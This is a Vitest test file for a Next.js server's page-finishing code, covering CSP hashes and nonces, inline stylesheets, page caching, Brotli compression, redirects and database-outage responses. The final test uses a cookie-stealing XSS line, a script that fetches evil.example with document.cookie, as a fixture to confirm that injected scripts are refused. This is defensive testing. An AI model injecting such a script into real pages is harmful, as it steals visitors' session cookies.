import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { IncomingMessage, ServerResponse } from 'node:http';
import { Socket } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { brotliDecompressSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { createPageFinisher, type PagePlan } from '@/server/http/finish-page';
import { createPageCache } from '@/server/http/page-cache';
import { SHARED_PAGE_CACHE_CONTROL } from '@/server/http/page-cache-headers';
import { createStylesheetStep } from '@/server/http/page-stylesheet';
import { PLACEHOLDERS, visitorValues } from '@/server/http/page-template';
import type { RequestContext } from '@/server/http/request-context';

const sha = (body: string) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`;
const CSS_HREF = '/_next/static/chunks/site.css';
const CSS = '.used{color:red}.unused{color:blue}';
/** A build folder holding the page's stylesheet, as `.next` does. */
const build = mkdtempSync(path.join(tmpdir(), 'finish-page-'));
mkdirSync(path.join(build, 'static', 'chunks'), { recursive: true });
writeFileSync(path.join(build, 'static', 'chunks', 'site.css'), CSS);
const finishStylesheets = createStylesheetStep(build);
const flight = (nonce: string) => `<script nonce="${nonce}">self.__next_f.push([1,"page"])</script>`;

/** A page as Next.js writes it: a stylesheet link in the head, scripts with the render's nonce. */
const page = (nonce: string, body = '') =>
  Buffer.from(
    `<!DOCTYPE html><html><head><link rel="stylesheet" href="${CSS_HREF}"></head>` +
      `<body><p class="used">Rohu</p>${body}${flight(nonce)}</body></html>`,
  );

function exchange(acceptEncoding = '') {
  const request = new IncomingMessage(new Socket());
  request.method = 'GET';
  request.headers['accept-encoding'] = acceptEncoding;
  const response = new ServerResponse(request);
  response.statusCode = 200;
  response.setHeader('Content-Type', 'text/html; charset=utf-8');
  response.setHeader('Link', `<${CSS_HREF}>; rel=preload; as="style", </font.woff2>; rel=preload; as="font"`);
  return { request, response };
}

function setUp() {
  const refusals: number[] = [];
  const { finishPage, sendKeptPage } = createPageFinisher({
    finishStylesheets,
    https: false,
    onRefused: (refused) => refusals.push(refused),
  });
  const pageCache = createPageCache({ lastChangeAt: () => 0 });
  const context = (): RequestContext => ({ requestId: 'req-1234abcd', databaseUnavailable: false, startedAt: 1 });
  return { finishPage, sendKeptPage, pageCache, refusals, context };
}

/** What a response was ended with (sendKeptPage sends the page itself). */
function sentBody(response: ServerResponse) {
  let body: Buffer = Buffer.alloc(0);
  const end = response.end.bind(response);
  response.end = ((chunk?: Buffer) => {
    body = chunk ?? Buffer.alloc(0);
    return end();
  }) as typeof response.end;
  return Object.assign(() => body.toString(), { bytes: () => body });
}

const scriptSources = (response: ServerResponse) =>
  (String(response.getHeader('content-security-policy')).match(/script-src [^;]*/)?.[0] ?? '').split(' ');

describe('finishing a page', () => {
  it('a shared page: stylesheet inline, its render’s scripts hashed, kept for a minute, compressed once', async () => {
    const { finishPage, pageCache, refusals, context } = setUp();
    const fill = pageCache.startFill('/about');
    const plan: PagePlan = { renderNonce: 'render-1', policyNonce: '', sharing: 'shared', fill };
    const { request, response } = exchange('br');
    const sent = await finishPage(request, response, context(), plan, page('render-1'));
    // Compressed better than on the fly (Brotli 6, not the middleware's 4): the first visitor in a minute gets this.
    expect(response.getHeader('content-encoding')).toBe('br');
    const body = brotliDecompressSync(sent).toString();
    expect(body).toContain('<style>.used{color:red}</style></head>');
    expect(body).not.toContain('.unused');
    expect(response.getHeader('link')).toBe('</font.woff2>; rel=preload; as="font"');
    const sources = scriptSources(response);
    expect(sources).toContain(sha('self.__next_f.push([1,"page"])'));
    expect(sources.some((source) => source.startsWith("'nonce-"))).toBe(false);
    expect(response.getHeader('cache-control')).toBe(SHARED_PAGE_CACHE_CONTROL);
    expect(response.getHeader('x-page-cache')).toBe('MISS');
    expect(pageCache.get('/about')?.body.toString()).toBe(body);
    expect(refusals).toEqual([]);

    // The kept page, once its Brotli copy is made in the background, is sent as that copy.
    const { sendKeptPage } = setUp();
    await expect.poll(() => pageCache.get('/about')?.compressed.br !== undefined).toBe(true);
    const kept = pageCache.get('/about');
    if (!kept) return;
    const again = exchange('br');
    const keptSent = sentBody(again.response);
    sendKeptPage(again.request, again.response, kept);
    expect(again.response.getHeader('content-encoding')).toBe('br');
    expect(again.response.getHeader('x-page-cache')).toBe('HIT');
    expect(brotliDecompressSync(keptSent.bytes()).toString()).toBe(body);
  });

  it('a page rendered again as the same bytes is sent as the copy made the time before', async () => {
    let now = 1_000_000;
    const { finishPage, context } = setUp();
    const pageCache = createPageCache({ lastChangeAt: () => 0, now: () => now });
    const render = async () => {
      const { request, response } = exchange('br');
      const plan: PagePlan = {
        renderNonce: 'render-1',
        policyNonce: '',
        sharing: 'shared',
        fill: pageCache.startFill('/a'),
      };
      return { response, sent: await finishPage(request, response, context(), plan, page('render-1')) };
    };
    const first = await render();
    // The first render goes out compressed for its response.
    expect(first.response.getHeader('content-encoding')).toBe('br');
    await expect.poll(() => pageCache.get('/a')?.compressed.br !== undefined).toBe(true);
    const copy = pageCache.get('/a')?.compressed.br;
    now += 61_000;
    const again = await render();
    expect(again.response.getHeader('content-encoding')).toBe('br');
    expect(again.sent).toBe(copy);
    expect(brotliDecompressSync(again.sent).equals(brotliDecompressSync(first.sent))).toBe(true);
  });

  it('a page for one visitor: its policy names the nonce, and nothing keeps it', async () => {
    const { finishPage, refusals, context } = setUp();
    const { request, response } = exchange();
    const plan: PagePlan = { renderNonce: 'visitor-1', policyNonce: 'visitor-1', sharing: undefined };
    await finishPage(request, response, context(), plan, page('visitor-1'));
    expect(scriptSources(response)).toEqual(['script-src', "'self'", "'nonce-visitor-1'"]);
    expect(response.hasHeader('x-page-cache')).toBe(false);
    expect(refusals).toEqual([]);
  });

  it('a template: kept with its placeholders, sent filled with each visitor’s values and nonce', async () => {
    const { finishPage, sendKeptPage, pageCache, context } = setUp();
    const visitor = visitorValues('a-test-secret-that-is-long-enough-0123456789');
    const form = `<form><input value="${PLACEHOLDERS.formStartToken}"><input value="${PLACEHOLDERS.idempotencyKey}"></form>`;
    const fill = pageCache.startFill('/order');
    const { request, response } = exchange();
    const plan: PagePlan = {
      renderNonce: PLACEHOLDERS.nonce,
      policyNonce: visitor.nonce,
      sharing: 'template',
      visitor,
      fill,
    };
    const sent = (await finishPage(request, response, context(), plan, page(PLACEHOLDERS.nonce, form))).toString();
    expect(sent).toContain(visitor.formStartToken);
    expect(sent).toContain(`nonce="${visitor.nonce}"`);
    expect(scriptSources(response)).toContain(`'nonce-${visitor.nonce}'`);
    const kept = pageCache.get('/order');
    expect(kept?.body.toString()).toContain(PLACEHOLDERS.formStartToken);
    expect(kept?.headers.map(([name]) => name)).not.toContain('content-security-policy');
    expect(kept?.template).toBeDefined();
    if (!kept) return;

    // The next visitor gets the kept template, filled with values of their own, under the same policy but the nonce.
    const next = visitorValues('a-test-secret-that-is-long-enough-0123456789');
    const again = exchange();
    const body = sentBody(again.response);
    sendKeptPage(again.request, again.response, kept, next);
    expect(again.response.getHeader('x-page-cache')).toBe('HIT');
    expect(body()).toContain(next.formStartToken);
    expect(body()).toContain(`nonce="${next.nonce}"`);
    expect(body()).not.toContain(visitor.formStartToken);
    expect(scriptSources(again.response)).toEqual(
      scriptSources(response).map((source) => source.replace(visitor.nonce, next.nonce)),
    );
  });

  it('a redirect: a line with the link instead of Next.js’s page, nothing that runs, kept for a minute', async () => {
    const { finishPage, sendKeptPage, pageCache, context } = setUp();
    const fill = pageCache.startFill('/products');
    const { request, response } = exchange();
    response.statusCode = 307;
    response.setHeader('Location', '/products/fish-seed?a=1&b="2"');
    response.setHeader('Cache-Control', 's-maxage=3600, stale-while-revalidate=31532400');
    const plan: PagePlan = { renderNonce: 'r3', policyNonce: '', sharing: 'shared', fill };
    const body = (await finishPage(request, response, context(), plan, page('r3'))).toString();
    expect(body).toContain('<a href="/products/fish-seed?a=1&amp;b=&quot;2&quot;">');
    expect(body).not.toContain('<script');
    expect(scriptSources(response)).toEqual(['script-src', "'self'"]);
    expect(response.hasHeader('link')).toBe(false);
    expect(response.getHeader('cache-control')).toBe(SHARED_PAGE_CACHE_CONTROL);

    const kept = pageCache.get('/products');
    expect(kept?.status).toBe(307);
    if (!kept) return;
    const again = exchange('br');
    const sent = sentBody(again.response);
    sendKeptPage(again.request, again.response, kept, undefined);
    expect(again.response.statusCode).toBe(307);
    expect(again.response.getHeader('location')).toBe('/products/fish-seed?a=1&b="2"');
    expect(again.response.getHeader('x-page-cache')).toBe('HIT');
    expect(again.response.getHeader('content-encoding')).toBe('br');
    expect(brotliDecompressSync(sent.bytes()).toString()).toBe(body);
  });

  it('a redirect rendered afresh names its address once (Next.js sets it twice then)', async () => {
    const { finishPage, context } = setUp();
    const { request, response } = exchange();
    response.statusCode = 307;
    response.setHeader('Location', ['/products/fish-seed', '/products/fish-seed']);
    const plan: PagePlan = { renderNonce: 'r4', policyNonce: '', sharing: 'shared' };
    const body = (await finishPage(request, response, context(), plan, page('r4'))).toString();
    expect(response.getHeader('location')).toBe('/products/fish-seed');
    expect(body).toContain('<a href="/products/fish-seed">');
  });

  it('a page that met an unreachable database: 503, its request id, kept by nobody', async () => {
    const { finishPage, pageCache, context } = setUp();
    const fill = pageCache.startFill('/blog');
    const { request, response } = exchange();
    const unavailable = { ...context(), databaseUnavailable: true };
    const body = await finishPage(
      request,
      response,
      unavailable,
      { renderNonce: 'r', policyNonce: '', sharing: 'shared', fill },
      page('r'),
    );
    expect(response.statusCode).toBe(503);
    expect(response.getHeader('retry-after')).toBe('30');
    expect(response.getHeader('cache-control')).toBe('no-store');
    expect(body.toString()).toContain('<meta name="request-id" content="req-1234abcd">');
    fill.abandon();
    expect(pageCache.get('/blog')).toBeUndefined();
  });

  it('tells of an inline script that is neither the render’s nor the framework’s', async () => {
    const { finishPage, refusals, context } = setUp();
    const { request, response } = exchange();
    const injected = '<script>fetch("//evil.example/?c="+document.cookie)</script>';
    await finishPage(
      request,
      response,
      context(),
      { renderNonce: 'r2', policyNonce: '', sharing: 'shared' },
      page('r2', injected),
    );
    expect(refusals).toEqual([1]);
    expect(scriptSources(response)).not.toContain(sha('fetch("//evil.example/?c="+document.cookie)'));
  });
});
